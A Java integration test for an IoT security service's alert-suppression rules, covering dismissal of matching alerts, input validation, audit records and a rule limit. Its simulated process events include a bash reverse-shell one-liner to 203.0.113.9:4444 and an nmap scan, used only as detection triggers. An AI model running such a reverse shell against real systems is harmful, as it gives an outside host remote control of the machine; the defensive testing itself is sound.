package io.vigil.detection.suppression;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.vigil.contracts.feed.EventFeed;
import io.vigil.contracts.feed.FeedBatch;
import io.vigil.contracts.feed.FeedEvent;
import io.vigil.contracts.feed.FeedMessage;
import io.vigil.testing.TestDatabase;
import io.vigil.testing.TestHub;
import io.vigil.testing.TestMqttClient;
import io.vigil.testing.TestTokens;
import io.vigil.testing.VigilTestResource;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;

/** Suppression rules over HTTP and the real broker and PostgreSQL: matching alerts are born dismissed, rules audited. */
@QuarkusTest
@QuarkusTestResource(VigilTestResource.class)
class SuppressionTest {

    private static final Duration PATIENCE = Duration.ofSeconds(20);

    @Test
    void aRuleDismissesTheAlertsItCoversAndOnlyThose() throws Exception {
        String lab = "sup-lab-" + UUID.randomUUID();
        String other = "sup-other-" + UUID.randomUUID();
        String ruleId = given().auth().oauth2(TestTokens.operator()).contentType(ContentType.JSON)
                .body(Map.of("alertType", "IoT_KnownAttackTools", "deviceId", lab, "reason", "weekly pen test of the lab device"))
                .post("/suppressions").then().statusCode(201).body("alertType", equalTo("IoT_KnownAttackTools")).extract().path("id");
        String byUser = given().auth().oauth2(TestTokens.operator()).contentType(ContentType.JSON)
                .body(Map.of("alertType", "IoT_ReverseShell", "evidence", Map.of("User Name", "lab-runner"), "reason", "CI shells"))
                .post("/suppressions").then().statusCode(201).extract().path("id");

        try (TestMqttClient ingest = TestMqttClient.connect()) {
            publish(ingest, lab, process("/usr/bin/nmap", "nmap -sS 10.0.0.0/24", "root"));
            publish(ingest, other, process("/usr/bin/nmap", "nmap -sS 10.0.0.0/24", "root"));
            publish(ingest, lab, process("/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "lab-runner"));
            publish(ingest, other, process("/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "root"));
        }
        assertThat(awaitStatus(lab, "IoT_KnownAttackTools")).isEqualTo("Dismissed");
        assertThat(awaitStatus(other, "IoT_KnownAttackTools")).isEqualTo("Active");
        assertThat(awaitStatus(lab, "IoT_ReverseShell")).isEqualTo("Dismissed");
        assertThat(awaitStatus(other, "IoT_ReverseShell")).isEqualTo("Active");
        assertThat(TestDatabase.query("SELECT status, extended_properties FROM workspace.security_alert WHERE device_id = ?"
                + " AND alert_type = 'IoT_KnownAttackTools'", lab)).first().satisfies(row -> {
            assertThat(row.get("status")).isEqualTo("Dismissed");
            assertThat((String) row.get("extended_properties")).contains("\"Suppressed By\":\"rule " + ruleId + ": weekly pen test of the lab device\"");
        });

        given().auth().oauth2(TestTokens.reader()).get("/suppressions").then().statusCode(200);
        given().auth().oauth2(TestTokens.operator()).delete("/suppressions/" + ruleId).then().statusCode(204);
        given().auth().oauth2(TestTokens.operator()).delete("/suppressions/" + ruleId).then().statusCode(404);
        given().auth().oauth2(TestTokens.operator()).delete("/suppressions/" + byUser).then().statusCode(204);
        assertThat(TestDatabase.query("SELECT action, actor FROM detection.suppression_change WHERE rule_id = ?::uuid ORDER BY id", ruleId))
                .extracting(row -> row.get("action") + " by " + row.get("actor")).containsExactly("created by test-user", "deleted by test-user");

        // Without the rule, the next device's alert is active again.
        String later = "sup-later-" + UUID.randomUUID();
        try (TestMqttClient ingest = TestMqttClient.connect()) {
            publish(ingest, later, process("/usr/bin/nmap", "nmap -sS 10.0.0.0/24", "root"));
        }
        assertThat(awaitStatus(later, "IoT_KnownAttackTools")).isEqualTo("Active");
    }

    @Test
    void badRulesAreRefusedWithTheReason() {
        for (Object body : List.of(Map.of("reason", "no type"), Map.of("alertType", "IoT_X"),
                Map.of("alertType", "IoT_X", "reason", "r", "expiresAt", "2020-01-01T00:00:00Z"),
                Map.of("alertType", "IoT_X", "reason", "r", "evidence", Map.of("a", List.of(1))),
                Map.of("alertType", "IoT_X", "reason", "r", "expiresAt", "tomorrow"),
                Map.of("alertType", "IoT_X", "reason", "r".repeat(1025)),
                Map.of("alertType", "IoT_" + "X".repeat(125), "reason", "r"),
                Map.of("alertType", "IoT_X", "reason", "r", "evidence", manyValues(21)))) {
            given().auth().oauth2(TestTokens.operator()).contentType(ContentType.JSON).body(body).post("/suppressions")
                    .then().statusCode(400).body("error.code", equalTo("suppression.invalid"));
        }
        given().auth().oauth2(TestTokens.reader()).contentType(ContentType.JSON).body(Map.of("alertType", "IoT_X", "reason", "r"))
                .post("/suppressions").then().statusCode(403);
    }

    @Test
    void atMostAThousandRulesAreKept() {
        long kept = TestDatabase.count("SELECT count(*) FROM detection.suppression_rule");
        TestDatabase.execute("INSERT INTO detection.suppression_rule (id, alert_type, reason, created_by)"
                + " SELECT gen_random_uuid(), 'IoT_LimitFiller', 'filler', 'test' FROM generate_series(1, ?)", (int) (1000 - kept));
        try {
            given().auth().oauth2(TestTokens.operator()).contentType(ContentType.JSON).body(Map.of("alertType", "IoT_X", "reason", "r"))
                    .post("/suppressions").then().statusCode(409).body("error.code", equalTo("suppression.limit"));
        } finally {
            TestDatabase.execute("DELETE FROM detection.suppression_rule WHERE alert_type = 'IoT_LimitFiller'");
        }
        given().auth().oauth2(TestTokens.operator()).contentType(ContentType.JSON).body(Map.of("alertType", "IoT_LimitOk", "reason", "r"))
                .post("/suppressions").then().statusCode(201);
        TestDatabase.execute("DELETE FROM detection.suppression_rule WHERE alert_type = 'IoT_LimitOk'");
    }

    private static Map<String, Object> manyValues(int count) {
        Map<String, Object> values = new java.util.HashMap<>();
        for (int i = 0; i < count; i++) {
            values.put("k" + i, "v");
        }
        return values;
    }

    private static String awaitStatus(String device, String type) {
        await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM detection.alert_state WHERE device_id = ? AND alert_type = ?",
                device, type) > 0);
        return (String) TestDatabase.query("SELECT status FROM detection.alert_state WHERE device_id = ? AND alert_type = ?", device, type)
                .get(0).get("status");
    }

    private static FeedEvent process(String executable, String commandLine, String user) {
        Instant at = Instant.now().minusSeconds(5);
        ObjectNode item = TestHub.JSON.createObjectNode().put("Executable", executable).put("CommandLine", commandLine)
                .put("ProcessId", 4100).put("ParentProcessId", 1).put("UserId", "1000").put("UserName", user);
        return new FeedEvent(UUID.randomUUID().toString(), "ProcessCreate", "Triggered", "Security", false, at, at.toString(), List.of(item));
    }

    private static void publish(TestMqttClient ingest, String device, FeedEvent event) throws Exception {
        FeedMessage message = new FeedMessage(TestHub.RESOURCE_ID, device, null, "agent", "1.0", Instant.now(), List.of(event));
        ingest.publish(EventFeed.topic("vigil-hub"), TestHub.JSON.writeValueAsBytes(FeedBatch.of(message)));
    }
}
